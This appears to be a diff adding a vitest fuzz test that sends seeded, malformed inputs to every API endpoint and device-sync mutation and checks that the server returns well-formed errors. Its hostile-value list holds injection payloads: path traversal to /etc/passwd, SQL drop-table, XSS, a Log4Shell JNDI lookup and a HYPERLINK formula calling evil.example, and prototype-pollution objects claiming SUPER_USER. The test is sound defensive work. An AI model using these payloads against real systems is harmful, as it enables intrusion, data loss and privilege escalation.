@@ -1,0 +1,183 @@
+import { readFileSync } from 'node:fs';
+import { expect, test } from 'vitest';
+import { newUid } from '#shared/ids.ts';
+import { can } from '#shared/permissions.ts';
+import { type MutationKind, mutationKinds } from '#shared/sync/mutations.ts';
+import type { Answer, Caller, Key } from '../server/caller.ts';
+import { enrolDevice } from '../server/device.ts';
+import { randomFrom } from '../server/random.ts';
+import { startApp } from '../server/with-app.ts';
+import { attackTimes } from './attack-times.ts';
+import { endpointOf, goodBodies, keys, params, sentTo } from './good-calls.ts';
+
+/**
+ * Good calls with something wrong in them, chosen by a seed: every call as whoever may make it. Whatever was sent, the
+ * answer comes, it is in the form of an answer, and it is never the server's fault.
+ */
+
+const app = await startApp();
+const desk = await enrolDevice(app);
+const bodies = await goodBodies(desk);
+const admin = await app.as('SUPER_USER');
+const nobody = app.nobody();
+
+const perCall = 6 * attackTimes;
+
+/** What ends the session it comes with, or makes the caller somebody else: played by others. */
+const endsSessions = new Set<Key>(
+  keys.filter((key) => /auth\/(logout|password|sessions)|POST \/api\/auth\/login/.test(key)),
+);
+
+function callerFor(key: Key): Caller {
+  const { may } = endpointOf(key);
+  if (may === 'device') return desk;
+  if (may === 'anyone' || endsSessions.has(key)) return nobody;
+  return may === 'signedIn' || can('SUPER_USER', may) ? admin : nobody;
+}
+
+/** What stands where something else was meant. */
+const hostile: readonly unknown[] = [
+  null,
+  true,
+  -1,
+  0.1,
+  2 ** 31,
+  2 ** 53,
+  -(2 ** 63),
+  1e308,
+  '',
+  ' ',
+  '0',
+  'null',
+  '\u0000',
+  'a\u0000b',
+  '\ud800',
+  '\u202e\u200f\ufeff',
+  'x'.repeat(70_000),
+  '%00%ff',
+  '../../../etc/passwd',
+  "'; drop table participants; --",
+  '<img src=x onerror=alert(1)>',
+  '=HYPERLINK("http://evil.example")',
+  '${jndi:ldap://evil.example}',
+  '2026-02-30',
+  '0000-00-00T00:00:00Z',
+  '+275760-09-13T00:00:00.001Z',
+  '00000000-0000-0000-0000-000000000000',
+  [],
+  [[]],
+  {},
+  { __proto__: null, constructor: { prototype: { may: true } } },
+  JSON.parse('{"__proto__":{"role":"SUPER_USER"},"toString":1,"then":1}'),
+  Array.from({ length: 5000 }, () => 0),
+  { $ne: null },
+];
+
+type Random = () => number;
+const pick = <T>(random: Random, list: readonly T[]): T => list[Math.floor(random() * list.length)] as T;
+
+/** The same value with one place in it changed: replaced, left out, doubled, or with something beside it. */
+function spoilt(value: unknown, random: Random): unknown {
+  const isParent = typeof value === 'object' && value !== null && !(value instanceof Uint8Array);
+  if (!isParent || random() < 0.15) return pick(random, hostile);
+  if (Array.isArray(value)) {
+    if (value.length === 0 || random() < 0.2) return [...value, pick(random, hostile)];
+    const at = Math.floor(random() * value.length);
+    return value.map((one, index) => (index === at ? spoilt(one, random) : one));
+  }
+  const names = Object.keys(value);
+  const name = names.length > 0 ? pick(random, names) : 'x';
+  const copy: Record<string, unknown> = { ...value };
+  const way = random();
+  if (way < 0.15) delete copy[name];
+  else if (way < 0.25)
+    copy[pick(random, ['id', 'role', 'version', 'constructor', 'a'.repeat(300)])] = pick(random, hostile);
+  else copy[name] = spoilt(copy[name], random);
+  return copy;
+}
+
+/** Bytes that are no picture, no archive and no text, or begin like one. */
+function spoiltBytes(random: Random): Uint8Array {
+  const head = pick(random, [
+    [],
+    [0xff, 0xd8, 0xff],
+    [0x89, 0x50, 0x4e, 0x47],
+    [0x50, 0x4b, 3, 4],
+    [0x1f, 0x8b],
+  ]);
+  const tail = Array.from({ length: Math.floor(random() * 400) }, () => Math.floor(random() * 256));
+  return Uint8Array.from([...head, ...tail]);
+}
+
+const textOf = (value: unknown): string =>
+  typeof value === 'string' ? value : (JSON.stringify(value) ?? '');
+const addressText = (random: Random) => textOf(pick(random, hostile)).slice(0, 300).toWellFormed() || '%';
+
+function attackOn(key: Key, random: Random) {
+  const good = sentTo(bodies, key);
+  const inAddress = key.includes(':') && random() < 0.25;
+  const inQuery = endpointOf(key).query !== undefined && random() < 0.8;
+  const wrongParams = { ...params, [pick(random, Object.keys(params))]: addressText(random) };
+  const query = endpointOf(key).query?.shape ?? {};
+  const names = [...Object.keys(query), 'x'];
+  const body = good.body instanceof Uint8Array ? spoiltBytes(random) : spoilt(good.body, random);
+  return {
+    params: inAddress ? wrongParams : params,
+    ...(inQuery ? { query: { [pick(random, names)]: addressText(random) } } : {}),
+    ...(good.body === undefined ? {} : { body: body instanceof Uint8Array ? body : textOf(body) }),
+    ...(good.body === undefined || body instanceof Uint8Array
+      ? {}
+      : { headers: { 'content-type': 'application/json' } }),
+  };
+}
+
+/** What is wrong with an answer; none when it is one of ours. */
+function faultOf({ status, json }: Answer): string | null {
+  // Told to come back is an answer of its own (a server that guards itself), with the time to do so.
+  if (status >= 500 && status !== 503) return `${status} ${JSON.stringify(json)}`;
+  if (status < 400) return null;
+  const { code, error } = (json ?? {}) as Record<string, unknown>;
+  return typeof code === 'string' && typeof error === 'string' ? null : `${status} without a code`;
+}
+
+test.each(keys)('%s answers whatever is sent to it', async (key) => {
+  const random = randomFrom(keys.indexOf(key) + 1);
+  const faults: string[] = [];
+  for (let count = 0; count < perCall; count += 1) {
+    const sent = attackOn(key, random);
+    const fault = faultOf(await callerFor(key).ask(key, sent));
+    if (fault) faults.push(`${fault} to ${JSON.stringify(sent).slice(0, 400)}`);
+  }
+  expect(faults).toEqual([]);
+});
+
+// ── what an enrolled device sends ───────────────────────────────────────────────────────────────────
+
+const fixture = JSON.parse(readFileSync(new URL('../fixtures/outbox-v1.json', import.meta.url), 'utf8')) as {
+  outbox: { kind: MutationKind; body: unknown }[];
+};
+
+const goodMutations: Partial<Record<MutationKind, unknown>> = {
+  ...Object.fromEntries(fixture.outbox.map(({ kind, body }) => [kind, body])),
+  'case.settle': { uid: newUid(), outcome: 'noted', kept: null, reason: 'Visto' },
+  'credential.validate': {
+    ...{ uid: newUid(), how: 'handedOver', badges: [{ number: params.number, g: 1 }] },
+    ...{ teamUid: null, receivedBy: null, signature: null },
+  },
+};
+
+test('there is a good one of every kind of work to begin with', () => {
+  expect(mutationKinds.filter((kind) => !(kind in goodMutations))).toEqual([]);
+});
+
+test.each(mutationKinds)('%s: work with something wrong in it is answered one by one', async (kind) => {
+  const random = randomFrom(mutationKinds.indexOf(kind) + 1000);
+  const device = await enrolDevice(app);
+  await device.grantTo(admin);
+  await device.push([device.next('participant.register', goodMutations['participant.register'])]);
+  const work = Array.from({ length: perCall }, () => device.next(kind, spoilt(goodMutations[kind], random)));
+  const { outcomes } = await device.push([...work, device.next('noop', { reason: 'forgotten' })]);
+  // Nothing bad stands in the way of what is good behind it.
+  expect(outcomes).toHaveLength(work.length + 1);
+  expect(outcomes.at(-1)?.status).toBe('applied');
+});
